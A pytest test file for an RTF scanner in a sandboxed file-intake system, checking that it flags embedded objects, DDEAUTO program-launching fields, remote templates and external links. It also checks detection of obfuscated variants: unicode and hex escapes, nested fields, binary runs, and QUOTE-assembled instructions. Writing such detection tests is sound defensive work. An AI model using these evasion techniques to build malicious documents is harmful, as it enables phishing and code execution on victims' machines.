r"""Hold what is found in RTF, also when its words are cut up as \ob{}ject is not."""

import pytest

from intake.sandbox import Limits
from intake.sandbox.office.rtf import find_in_rtf
from tests.intake.sandbox.conftest import MakeJail
from tests.support.growth.measure import is_linear

FOUND = [
    (rb"{\rtf1{\object\objemb{\*\objdata 0105}}}", "rtf_object"),
    (rb"{\rtf1\objupdate x}", "rtf_object"),
    (rb"{\rt{\object\objautlink{\*\objdata 01}}}", "rtf_object"),
    (rb"{\rtf1{\field{\*\fldinst DDEAUTO none.exe x}{\fldrslt a}}}", "office_dde"),
    (rb"{\rtf1{\field{\*\fldinst {\b D}{D\'45}AUTO none.exe}{\fldrslt a}}}", "office_dde"),
    (rb"{\rtf1{\field{\*\fldinst \u68?\u68?E none.exe}{\fldrslt a}}}", "office_dde"),
    (rb"{\rtf1{\field{\*\fldinst INCLUDEPICTURE http://a.example/x}{\fldrslt a}}}",
     "office_external_link"),
    (rb"{\rtf1{\*\template http://a.example/t.dotm}}", "office_remote_template"),
    (rb"{\rtf1{\*\template \'68ttp://a.example/t.dotm}}", "office_remote_template"),
    (rb"{\rtf1{\*\template \\\\server\\t.dotm}}", "office_remote_template"),
    (rb"{\rtf1{\*\template h{\*\xx }t\'74p:/{}/evil.example/t.dotm}}", "office_remote_template"),
    (rb"{\rtf1{\*\template h{\*\xx{y}z}ttp://a.example/t.dotm}}", "office_remote_template"),
    (rb"{\rtf1{\*\template {{h}ttp}://a.example/t.dotm}}", "office_remote_template"),
    (rb"{\rtf1{\*\template {\*\xx \}}http://a.example/t.dotm}}", "office_remote_template"),
    (rb"{\rtf1{\*\template {\*\xx http://a.example/t.dotm}}}", "office_remote_template"),
    (rb"{\rtf1" + rb"{\*\template C:\\a}" * 200 + rb"{\*\template http://a.example}}",
     "office_remote_template"),
    (rb"{\rtf1{\*\template C:\\Normal.dotm}}", "office_local_template"),
    (rb"{\rtf1{\*\xform http://a.example/a.xslt}}", "office_external_link"),
    (rb"{\rtf1{\*\xform \\\\server\\a.xslt}}", "office_external_link"),
    (rb"{\rtf1{\*\xmlnstbl{\xmlns1 \\\\server\\a.xsd}}}", "office_external_link"),
    (rb"{\rtf1{\*\xmlnstbl{\xmlns1 urn:a}{\xmlns2 file://server/a}}}", "office_external_link"),
]  # fmt: skip


@pytest.mark.parametrize(("content", "finding"), FOUND)
def test_what_is_inside_is_named(content: bytes, finding: str) -> None:
    assert finding in find_in_rtf(content)


@pytest.mark.parametrize(
    "content", [rb"{\rtf1 plain}", rb"{\rtf1 the word \\object}", rb"{\rtf1\bin}", rb"{\rtf", b""]
)
def test_plain_or_broken_text_has_no_finding(content: bytes) -> None:
    assert find_in_rtf(content) == set()


BASE = rb"{\info{\hlinkbase http://a.example/}}"
RELATIVE = rb'{\field{\*\fldinst INCLUDEPICTURE "a.png" \\d}{\fldrslt}}'
SHAPE = rb"{\shp{\*\shpinst{\sp{\sn pibName}{\sv a.png}}}}"


@pytest.mark.parametrize("loading", [RELATIVE, SHAPE, RELATIVE.replace(b"PICTURE", b"TEXT")])
@pytest.mark.parametrize(
    "base", [BASE, BASE.replace(b"http:", rb"\\\\x"), BASE.replace(b"\\h", rb"\*\h")]
)
def test_name_below_a_base_elsewhere_is_loaded_from_there(base: bytes, loading: bytes) -> None:
    for content in (base + loading, loading + base):
        assert find_in_rtf(rb"{\rtf1" + content + b"}") == {"office_external_link"}


def test_template_that_is_only_named_lies_below_the_base() -> None:
    template = rb"{\*\template brev.dotm}"

    assert "office_remote_template" in find_in_rtf(rb"{\rtf1" + BASE + template + b"}")
    assert find_in_rtf(rb"{\rtf1" + template + b"}") == {"office_local_template"}
    on_a_drive = template.replace(b"brev", rb"C:\\\\brev\\\\a")
    assert find_in_rtf(rb"{\rtf1" + BASE + on_a_drive + b"}") == {"office_local_template"}


@pytest.mark.parametrize(
    "content",
    [
        BASE + b"text",
        BASE + rb'{\field{\*\fldinst HYPERLINK "a.html"}{\fldrslt a}}',
        rb"{\info{\hlinkbase C:\\pictures}}" + RELATIVE,
        rb"{\*\xmlnstbl{\xmlns1 http://schemas.microsoft.com/office/word/2003/wordml}}",
        rb"{\*\xform a.xslt}",
        rb'{\field{\*\fldinst IF{\field{\*\fldinst MERGEFIELD a}{\fldrslt}}= 1 "x" "y"}{\fldrslt}}',
        rb"{\field{\*\fldinst ={\field{\*\fldinst PAGE}{\fldrslt 1}}+1}{\fldrslt 2}}",
    ],
)
def test_names_and_fields_of_everyday_ask_for_nothing(content: bytes) -> None:
    assert find_in_rtf(rb"{\rtf1" + content + b"}") == set()


@pytest.mark.parametrize(
    "inner", [b'IF 1=1 "DDE" "x"', b"REF a", b"DOCVARIABLE k", b'IF 1=1 "INCLUDETEXT" ""']
)
@pytest.mark.parametrize("before", [b"", b" ", b"D", rb"{\b }"])
def test_field_whose_kind_another_one_gives_asks_a_program(before: bytes, inner: bytes) -> None:
    nested = rb"{\field{\*\fldinst " + inner + rb"}{\fldrslt x}}"
    whole = rb"{\rtf1{\field{\*\fldinst " + before + nested + rb' none.exe "a"}{\fldrslt a}}}'

    assert "office_dde" in find_in_rtf(whole)


LINK = rb'INCLUDEPICTURE "http://pictures.example/a.png" \\d'
NOISE = rb"{\*\unknown " + b"x" * 6000 + rb"}"
HIDDEN_FIELDS = {
    "a field within a field": rb"{\field{\*\fldinst IF 1=1 {\field{\*\fldinst %b}{\fldrslt a}}}}",
    "a field within, with no result": rb"{\field{\*\fldinst {\field{\*\fldinst %b}}}}",
    "fields 20 deep": rb"{\field{\*\fldinst " * 20 + rb"%b" + b"}}" * 20,
    "a long group before it": rb"{\field{\*\fldinst " + NOISE + rb"%b}{\fldrslt a}}",
    "many words before it": rb"{\field{\*\fldinst " + rb"\b0" * 3000 + rb" %b}{\fldrslt a}}",
    "a short group before it": rb"{\field{\*\fldinst {\*\unknown q}%b}{\fldrslt a}}",
    "the result in the same group": rb"{\field\fldinst %b\fldrslt a}",
    "no end": rb"{\field{\*\fldinst %b",
    "a group that ends at once": rb"{\field{\*\fldinst {}{\b }%b}}",
}


@pytest.mark.parametrize("around", HIDDEN_FIELDS.values(), ids=HIDDEN_FIELDS.keys())
def test_no_wrapping_hides_a_field(around: bytes) -> None:
    picture = rb"{\rtf1\ansi " + around.replace(b"%b", LINK) + b"}"
    program = rb"{\rtf1\ansi " + around.replace(b"%b", rb"DDEAUTO tool.exe x") + b"}"

    assert find_in_rtf(picture) == {"office_external_link"}
    assert find_in_rtf(program) == {"office_dde"}


def in_unicode(text: bytes, fallback: bytes) -> bytes:
    return b"".join(rb"\u%d %b" % (letter, fallback) for letter in text)


TEMPLATE = b"http://a.example/t.dotm"
WRITTEN = {
    "another letter instead": in_unicode(TEMPLATE, b"x"),
    "an escaped letter instead": in_unicode(TEMPLATE, rb"\'3f"),
    "none instead": rb"\uc0" + in_unicode(TEMPLATE, b""),
    "two instead": rb"\uc2" + in_unicode(TEMPLATE, b"zz"),
    "one of two groups": rb"{\uc3 \u104 abc}" + in_unicode(b"ttp:", b"?") + b"//a.example/",
    "binary data before it": rb"\bin4 a{}b" + TEMPLATE,
    "binary data within": rb"ht\bin3 {{{tp://a.example/",
    "a long group before it": NOISE + TEMPLATE,
    "many words before it": rb"\b0" * 3000 + b" " + TEMPLATE,
    "lines": b"\r\nht\r\ntp://\r\na.example",
    "both forms of a text": rb"{\upr{C:\\t.dot}{\*\ud{http://a.example}}}",
    "a data field before it": rb"{\*\unknown{\*\more C:}}{\pict 00ff}" + TEMPLATE,
}


@pytest.mark.parametrize("written", WRITTEN.values(), ids=WRITTEN.keys())
def test_no_way_of_writing_hides_a_template(written: bytes) -> None:
    assert "office_remote_template" in find_in_rtf(rb"{\rtf1{\*\template " + written + b"}a}")


def test_length_that_a_group_around_sets_counts() -> None:
    letters = in_unicode(TEMPLATE, b"ab")

    written = rb"{\rtf1\uc2{\b x}{{\uc0 }{\*\template " + letters + b"}}}"

    assert "office_remote_template" in find_in_rtf(written)


@pytest.mark.parametrize(
    "content",
    [
        rb"{\rtf1{\*\filetbl{\file\fid1 \\\\server\\a.doc}}{\subdocument1}}",
        rb"{\rtf1{\*\filetbl{\file\fid1 C:\\a.doc}}\subdocument1 }",
        rb"{\rtf1{\shp{\*\shpinst{\sp{\sn pibName}{\sv http://a.example/x.png}}}}}",
        rb"{\rtf1{\shp{\*\shpinst{\sp{\sn fillBlipName}{\sv \\\\server\\x.png}}}}}",
        rb"{\rtf1{\*\mailmerge{\mmdatasource C:\\clients.mdb}}a}",
        rb"{\rtf1{\*\mailmerge{\*\mmconnectstr DSN=clients}}a}",
        rb"{\rtf1{\*\nextfile http://a.example/x.rtf}a}",
        rb'{\rtf1{\field{\*\fldinst DATABASE \\c "DSN=a" \\s "SELECT 1"}{\fldrslt a}}}',
        rb'{\rtf1{\field{\*\fldinst INCLUDETEXT {\field{\*\fldinst QUOTE "http:"}}"//a/"}}}',
        (
            rb"{\rtf1{\field{\*\fldinst INCLUDETEXT {\field{\*\fldinst REF a}"
            rb"{\fldrslt http://a.example}}}}}"
        ),
    ],
)
def test_files_that_a_document_names_are_fetched(content: bytes) -> None:
    assert "office_external_link" in find_in_rtf(content)


@pytest.mark.parametrize(
    "quotes",
    [
        rb"{\field{\*\fldinst QUOTE 68 68 69 65 85 84 79}{\fldrslt DDEAUTO}}",
        rb'{\field{\*\fldinst QUOTE "DD"}{\fldrslt DD}}{\field{\*\fldinst QUOTE "EAUTO"}}',
    ],
)
def test_instruction_may_be_put_together_by_fields(quotes: bytes) -> None:
    written = rb"{\rtf1{\field{\*\fldinst " + quotes + rb" c:\\tool.exe}{\fldrslt a}}}"

    assert "office_dde" in find_in_rtf(written)


@pytest.mark.parametrize(
    "content",
    [
        rb'{\rtf1{\field{\*\fldinst HYPERLINK "mailto:a@b.example"}{\fldrslt a@b.example}}}',
        (
            rb"{\rtf1{\field{\*\fldinst TOC \\o}{\fldrslt {\field{\*\fldinst PAGEREF _Toc1 \\h}"
            rb"{\fldrslt 1}}}}}"
        ),
        rb"{\rtf1{\field{\*\fldinst IF {\field{\*\fldinst MERGEFIELD Name}} = a x y}}}",
        rb"{\rtf1{\field{\*\fldinst QUOTE a}{\fldrslt a}} link to http://a.example}",
        rb"{\rtf1{\*\filetbl{\file\fid1 C:\\a.doc}}a}",
        (
            rb"{\rtf1{\shp{\*\shpinst{\sp{\sn pibName}{\sv C:\\logo.png}}{\sp{\sn wzName}"
            rb"{\sv http://a.example}}}}}"
        ),
        rb"{\rtf1{\*\mailmerge{\mmdatasource}}a}",
        rb"{\rtf1 the words \\template http://a.example and \\fldinst DDEAUTO x y}",
        rb"{\rtf1{\fonttbl{\f0{\*\fname Times;}Times;}}\uc2 \u1587 aa}",
        rb"{\rtf1{\field{\*\fldinst SHAPE {\pict\bin5 {DDE }}{\fldrslt }} LINK DDE \\\\server}",
    ],
)
def test_everyday_fields_and_shapes_have_no_finding(content: bytes) -> None:
    assert find_in_rtf(content) == set()


def test_more_nesting_than_a_program_reads_is_said() -> None:
    assert find_in_rtf(rb"{\rtf1" + rb"{\field{\*\fldinst " * 60) == {"office_not_fully_read"}
    assert find_in_rtf(rb"{\rtf1\uc2" + b"{" * 3000) == {"office_not_fully_read"}


@pytest.mark.parametrize(
    "repeated",
    [
        rb"{\field{\*\fldinst HYPERLINK a}{\fldrslt b}}",
        rb"{\*\template C:\\a}",
        rb"\u69 ?",
        rb"\fldinst }",
        rb"{\sp{\sn pibName}{\sv a}}",
        rb"\bin3 abc",
        rb"\uc2{}",
    ],
)
@pytest.mark.parametrize("start", [rb"{\rtf1 ", rb"{\rtf1{\*\fldinst ", rb"{\rtf1{\uc2\template "])
def test_reading_takes_as_long_as_the_file(start: bytes, repeated: bytes) -> None:
    def text_of(size: int) -> str:
        return (start + repeated * (size // len(repeated))).decode("ascii")

    assert is_linear(lambda text: find_in_rtf(text.encode("ascii")), text_of, 400_000)


def test_long_letter_is_judged_and_opened_within_a_few_seconds(make_jail: MakeJail) -> None:
    letter = rb"{\rtf1\ansi " + rb"{\b Hej} v\'e4rld\par " * 500_000 + b"}"
    brief = make_jail(Limits(address_space_bytes=1024**3, cpu_seconds=4, wall_seconds=30.0))

    assert brief.inspect(letter, "text/rtf", "a.rtf").state == "clean"
    assert brief.unpack(letter, "text/rtf", "a.rtf").state == "opened"
